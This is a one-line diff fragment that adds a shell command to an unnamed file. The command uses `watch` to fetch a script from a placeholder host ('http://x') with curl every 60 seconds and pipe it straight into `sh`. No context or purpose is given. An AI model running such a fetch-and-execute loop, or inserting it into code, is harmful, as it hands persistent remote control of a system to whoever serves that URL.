@@ -1,0 +1,1 @@
+watch -n 60 'curl -s http://x | sh'
